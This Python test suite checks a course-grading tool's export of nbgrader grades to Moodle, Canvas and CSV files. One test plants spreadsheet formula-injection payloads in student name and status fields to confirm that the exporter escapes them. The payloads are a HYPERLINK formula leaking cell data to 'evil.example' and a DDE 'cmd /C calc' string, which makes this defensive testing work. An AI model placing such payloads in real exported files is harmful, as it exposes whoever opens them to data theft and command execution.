"""dlgrade.export without a grading run: ``dlcourse export`` on a real SQLite gradebook filled
through nbgrader's API and status records as the engine writes them. One assignment, four
roster students: ann graded, bob's grading failed, cat submitted and is not graded yet, dan
submitted nothing. Only ann's grade may reach the LMS as a number; a failed or pending grade
must go out empty (the LMS keeps what it had), never as a false 0."""

from __future__ import annotations

import csv
import warnings

import pytest
from sqlalchemy.exc import SAWarning

from dlgrade.course import CONFIG_NAME, Course
from dlgrade.export import export
from dlgrade.status import write_status

pytestmark = pytest.mark.slow  # a real SQLite gradebook (the empty one is made once per process)


@pytest.fixture
def course(tmp_path, empty_gradebook):
    (tmp_path / CONFIG_NAME).write_text("c = get_config()\n")
    course = Course(tmp_path)
    empty_gradebook(tmp_path)
    with course.gradebook() as gb:
        gb.add_assignment("a1")
        gb.add_notebook("nb", "a1")
        gb.add_grade_cell("test_f", "nb", "a1", max_score=4, cell_type="code")
        gb.add_solution_cell("answer_why", "nb", "a1")  # a written answer: takes a comment
        gb.add_student("ann", first_name="Ann", last_name="Lee", email="ann@example.org",
                       lms_user_id="101")
        for number, student in enumerate(("bob", "cat", "dan"), start=102):
            gb.add_student(student, email=f"{student}@example.org", lms_user_id=str(number))
        with warnings.catch_warnings():  # nbgrader's add_submission trips an autoflush warning
            warnings.simplefilter("ignore", SAWarning)
            gb.add_submission("a1", "ann")
        grade = gb.find_grade("test_f", "nb", "a1", "ann")
        grade.auto_score, grade.needs_manual_grade = 3.0, False
        gb.db.commit()
    for student in ("ann", "bob", "cat"):
        (course.submitted_dir / student / "a1").mkdir(parents=True)
    write_status(course, "a1", {"student": "ann", "assignment": "a1", "status": "graded",
                                "reason": "", "score": 3.0, "max_score": 4.0,
                                "cells": {"test_f": [3.0, 4.0]}})
    write_status(course, "a1", {"student": "bob", "assignment": "a1", "status": "failed",
                                "reason": "the kernel died", "score": 0.0, "max_score": 4.0,
                                "cells": {}})
    return course


def _rows(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_moodle_gets_a_number_only_for_a_final_grade(course, tmp_path):
    dest = tmp_path / "moodle.csv"
    assert export(course, "a1", "moodle", dest) == str(dest)
    assert _rows(dest) == [
        ["Email address", "ID number", "a1", "Feedback"],
        ["ann@example.org", "ann", "3", ""],
        ["bob@example.org", "bob", "", "could not be graded: the kernel died"],
        ["cat@example.org", "cat", "", "not graded yet"],
        ["dan@example.org", "dan", "0", "no submission"],
    ]


def test_canvas_gets_the_points_and_the_lms_ids(course, tmp_path):
    dest = tmp_path / "canvas.csv"
    export(course, "a1", "canvas", dest, column="Exercise 1 (42)")
    rows = _rows(dest)
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section",
                       "Exercise 1 (42)"]
    assert rows[1][-1] == "4"  # the Points Possible row
    by_login = {row[3]: row for row in rows[2:]}
    assert by_login["ann"][:2] == ["Lee, Ann", "101"]
    assert {login: row[-1] for login, row in by_login.items()} == {
        "ann": "3", "bob": "", "cat": "", "dan": "0"}


def test_csv_is_the_courses_own_grades_file(course, tmp_path):
    dest = tmp_path / "grades.csv"
    export(course, "a1", "csv", dest)
    assert dest.read_bytes() == (course.output_dir("a1") / "grades.csv").read_bytes()
    rows = {row["student"]: row for row in csv.DictReader(dest.open(encoding="utf-8"))}
    assert sorted(rows) == ["ann", "bob", "cat", "dan"]
    assert rows["ann"]["status"] == "graded" and float(rows["ann"]["score"]) == 3.0


def test_what_cannot_be_exported_is_named_and_nothing_is_written(course, tmp_path):
    dest = tmp_path / "out.csv"
    with pytest.raises(ValueError, match=r"assignment: 'a9' is not in the gradebook of .*; "
                                         r"run `dlcourse release a9` first"):
        export(course, "a9", "moodle", dest)
    with pytest.raises(ValueError, match="format: got 'xls'"):
        export(course, "a1", "xls", dest)
    assert not dest.exists()


def test_canvas_export_warns_that_scores_waiting_for_a_hand_grade_are_provisional(
        course, tmp_path):
    from tests.submissions.crafted import dlcourse

    write_status(course, "a1", {"student": "ann", "assignment": "a1",
                                "status": "needs manual grading", "reason": "", "score": 3.0,
                                "max_score": 4.0, "cells": {"test_f": [3.0, 4.0]}})
    with course.gradebook() as gb:  # a part waits for a hand grade
        gb.find_grade("test_f", "nb", "a1", "ann").needs_manual_grade = True
        gb.db.commit()
    lines = []
    export(course, "a1", "canvas", tmp_path / "canvas.csv", warn=lines.append)
    assert lines == ["1 student still needs manual grading (ann): their canvas scores are "
                     "provisional, the automatic part only (canvas has no feedback column "
                     "to say so); grade the written answers (`dlcourse mark` or formgrader) "
                     "and export again, or leave those cells out of the upload", *BLANK]
    lines.clear()  # Moodle's feedback column says "provisional" itself
    export(course, "a1", "moodle", tmp_path / "moodle.csv", warn=lines.append)
    assert lines == BLANK
    # the command line: the warning on stderr, stdout the file alone with `-o -`
    proc = dlcourse("export", "a1", "--format", "canvas", "-o", "-", cwd=course.root)
    assert proc.returncode == 0
    assert proc.stderr.startswith("warning: 1 student still needs manual grading (ann)")
    assert proc.stdout.startswith("Student,ID,SIS User ID")


#: what every export of the fixture's course says of bob (failed) and cat (not graded yet)
BLANK = ["1 of 3 submissions is not graded yet (cat): their grade cells are empty; run "
         "`dlcourse grade a1` (an interrupted run is resumed) and export again",
         "1 student with a failed or uncollected submission gets an empty grade cell (the "
         "reasons are in grades.csv)"]


def test_an_export_with_grades_still_missing_says_so(course, tmp_path):
    """An interrupted run leaves students pending: their cells go out empty, which the LMS
    ignores, so the instructor is told before uploading a file that changes nothing for them
    (review 23c F4)."""
    lines = []
    export(course, "a1", "csv", tmp_path / "grades.csv", warn=lines.append)
    assert lines == []  # grades.csv holds every status and reason itself
    export(course, "a1", "canvas", tmp_path / "canvas.csv", warn=lines.append)
    assert lines == BLANK
    write_status(course, "a1", {"student": "cat", "assignment": "a1", "status": "failed",
                                "reason": "x", "score": 0.0, "max_score": 4.0, "cells": {}})
    write_status(course, "a1", {"student": "ann", "assignment": "a1", "status": "pending",
                                "reason": "", "score": 0.0, "max_score": 4.0, "cells": {}})
    lines.clear()
    export(course, "a1", "moodle", tmp_path / "moodle.csv", warn=lines.append)
    assert lines[0].startswith("1 of 3 submissions is not graded yet (ann)")
    assert lines[1].startswith("2 students with a failed or uncollected submission get an")


def test_a_student_whose_files_were_not_collected_gets_no_zero(course, tmp_path):
    from dlgrade.handgrades import mark
    from dlgrade.status import write_not_collected

    files = ["dl/Dan D_5_assignsubmission_file_/nb.ipynb",
             "dl/Dan D_5_assignsubmission_file_/nb (1).ipynb"]
    why = "2 files found, none collected (dl/...): delete all but one"
    write_not_collected(course, "a1", {"dan": why}, collected=[], files={"dan": files})
    dest = tmp_path / "moodle.csv"
    export(course, "a1", "moodle", dest)
    # the student reads what happened, not the instructor's remedy or the download's paths
    assert ["dan@example.org", "dan", "", "not graded yet: 2 files were handed in (nb (1).ipynb, "
            "nb.ipynb) where one was expected"] in _rows(dest)
    export(course, "a1", "canvas", tmp_path / "canvas.csv")
    assert {row[3]: row[-1] for row in _rows(tmp_path / "canvas.csv")[2:]}["dan"] == ""
    rows = {row["student"]: row for row in csv.DictReader(
        (course.output_dir("a1") / "grades.csv").open(encoding="utf-8"))}
    assert (rows["dan"]["status"], rows["dan"]["score"]) == ("not collected", "")
    with pytest.raises(ValueError, match=r"student: a1 of 'dan' is not collected yet: 2 files"):
        mark(course, "a1", "dan", "test_f", 1)
    # a later collect that copies one file of dan's forgets the refusal: "no submission" again
    write_not_collected(course, "a1", {}, collected=["dan"])
    export(course, "a1", "moodle", dest)
    assert ["dan@example.org", "dan", "0", "no submission"] in _rows(dest)


def test_cells_a_spreadsheet_would_run_are_text_and_scores_stay_numbers(course, tmp_path):
    """Review 21b, hole 8: roster names and sections that are spreadsheet formulas are written
    with a leading ' in every export (OWASP's advice); numbers stay numbers."""
    import json

    with course.gradebook() as gb:
        eve = gb.find_student("cat")
        eve.first_name, eve.last_name = "Eve", '=HYPERLINK("http://evil.example/?"&D3)'
        gb.find_student("bob").last_name = "@SUM(1+9)*cmd|' /C calc'!A0"
        gb.db.commit()
    (course.output_root / "roster_lms.json").write_text(json.dumps(
        {"ann": {"sis_user_id": "-9351", "section": "=1+1"}}))
    write_status(course, "a1", {"student": "bob", "assignment": "a1", "status": "failed",
                                "reason": "+cmd|' /C calc'!A0 in a file name", "score": 0.0,
                                "max_score": 4.0, "cells": {}})
    export(course, "a1", "canvas", tmp_path / "canvas.csv", column="=Notebook (42)")
    rows = _rows(tmp_path / "canvas.csv")
    assert rows[0][-1] == "'=Notebook (42)"
    by_login = {row[3]: row for row in rows[2:]}
    assert by_login["cat"][0] == '\'=HYPERLINK("http://evil.example/?"&D3), Eve'
    assert by_login["bob"][0] == "'@SUM(1+9)*cmd|' /C calc'!A0"
    # a negative SIS id is a number, the section a formula; the score reads back as a number
    assert by_login["ann"][:5] == ["Lee, Ann", "101", "-9351", "ann", "'=1+1"]
    assert float(by_login["ann"][-1]) == 3.0 and float(rows[1][-1]) == 4.0
    export(course, "a1", "moodle", tmp_path / "moodle.csv")
    feedback = {row[0]: row[3] for row in _rows(tmp_path / "moodle.csv")[1:]}
    assert feedback["bob@example.org"].startswith("could not be graded: +cmd")
    for cell in (cell for row in _rows(tmp_path / "moodle.csv") for cell in row):
        assert not cell.startswith(("=", "+", "@")), cell
    export(course, "a1", "csv", tmp_path / "grades.csv")
    for row in _rows(tmp_path / "grades.csv"):
        assert not any(cell.startswith(("=", "+", "@")) for cell in row), row


def test_a_canvas_export_of_a_course_without_canvas_ids_is_refused_or_warned(course, tmp_path):
    """Review 23b, R8: Canvas matches an import by its ID column; empty ids are never written
    silently."""
    dest = tmp_path / "canvas.csv"
    with course.gradebook() as gb:
        gb.find_student("dan").lms_user_id = None
        gb.db.commit()
    lines = []
    export(course, "a1", "canvas", dest, warn=lines.append)
    assert lines == [*BLANK, "1 student without a Canvas user id (dan): their rows have an "
                     "empty 'ID', which Canvas cannot match; import Canvas's gradebook export "
                     "(`dlcourse roster import`) to add the ids"]
    dest.unlink()
    with course.gradebook() as gb:  # a Moodle course: nobody has one
        for student in gb.students:
            student.lms_user_id = None
        gb.db.commit()
    with pytest.raises(ValueError, match=r"format: no student of this course has a Canvas "
                                         r"user id .*export --format moodle or csv"):
        export(course, "a1", "canvas", dest)
    assert not dest.exists()


def test_the_moodle_feedback_carries_the_hand_grade_comments(course, tmp_path):
    """Review 23b, R8: the comment of `dlcourse mark --comment` reaches Moodle's feedback."""
    with course.gradebook() as gb:  # where `dlcourse mark` and formgrader keep a comment
        gb.find_comment("answer_why", "nb", "a1", "ann").manual_comment = \
            "Gut,\n  klar begründet"
        gb.db.commit()
    dest = tmp_path / "moodle.csv"
    export(course, "a1", "moodle", dest)
    assert ["ann@example.org", "ann", "3", "answer_why: Gut, klar begründet"] in _rows(dest)


@pytest.mark.parametrize("fmt", ["canvas", "moodle", "csv"])
def test_an_export_cut_short_leaves_the_file_exported_before_whole(course, tmp_path, fmt,
                                                                    monkeypatch):
    """Review 23m, finding 8: ``export -o FILE`` wrote FILE in place, so a Ctrl-C (or a crash)
    in the middle left half a file under the name the instructor uploads. The new content
    replaces the file only once it is whole; a cut-short export leaves the earlier one and
    no scrap beside it."""
    import shutil

    import dlgrade.lms.canvas
    import dlgrade.lms.moodle

    dest = tmp_path / "exports" / "grades.csv"
    dest.parent.mkdir()
    export(course, "a1", fmt, dest)
    before = dest.read_bytes()
    calls = []

    def interrupted(*args, **kwargs):  # Ctrl-C arrives in the middle of the rows
        calls.append(1)
        if len(calls) == 2:
            raise KeyboardInterrupt
        return real(*args, **kwargs)

    if fmt == "csv":  # the course's grades.csv copied (sendfile on Linux, else a loop)
        def interrupted_copy(src, dst, *args, **kwargs):
            dst.write(src.read(10))
            raise KeyboardInterrupt
        monkeypatch.setattr(shutil, "copyfileobj", interrupted_copy)
        monkeypatch.setattr(shutil, "_fastcopy_sendfile",
                            lambda *a, **k: (_ for _ in ()).throw(KeyboardInterrupt()))
    else:
        module = dlgrade.lms.canvas if fmt == "canvas" else dlgrade.lms.moodle
        real = module.format_score
        monkeypatch.setattr(module, "format_score", interrupted)
    with pytest.raises(KeyboardInterrupt):
        export(course, "a1", fmt, dest)
    monkeypatch.undo()
    assert dest.read_bytes() == before
    assert sorted(p.name for p in dest.parent.iterdir()) == ["grades.csv"]
